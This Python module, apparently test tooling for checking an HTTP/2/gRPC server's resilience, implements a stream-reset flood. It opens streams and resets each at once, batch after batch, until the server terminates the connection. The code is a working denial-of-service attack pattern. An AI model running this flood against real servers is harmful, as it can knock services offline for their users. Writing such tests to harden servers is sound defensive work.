"""Peers that misuse HTTP/2, frame by frame, as no client library would let them."""

import asyncio

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from services.runtime.addresses import connect

_MOST_AT_ONCE = 200


async def reset_streams(address: str, path: str, count: int) -> int:
    """Open streams and reset each at once, over as many connections as it takes; answer how many were sent."""
    sent = 0
    while sent < count:
        sent += await _reset_over_one_connection(address, path, count - sent)
    return sent


async def _reset_over_one_connection(address: str, path: str, count: int) -> int:
    reader, writer = await asyncio.open_connection(sock=connect(address, 10))
    connection = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    connection.initiate_connection()
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    sent = 0
    try:
        while sent < count:
            for _ in range(min(_MOST_AT_ONCE, count - sent)):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, headers)
                connection.reset_stream(stream)
                sent += 1
            writer.write(connection.data_to_send())
            await writer.drain()
            while not reader.at_eof():
                try:
                    data = await asyncio.wait_for(reader.read(65536), 0.001)
                except TimeoutError:
                    break
                if any(isinstance(e, h2.events.ConnectionTerminated) for e in connection.receive_data(data)):
                    return sent
    except (OSError, h2.exceptions.ProtocolError):
        # The server has had enough of this connection.
        return max(sent, 1)
    finally:
        writer.close()
    return sent
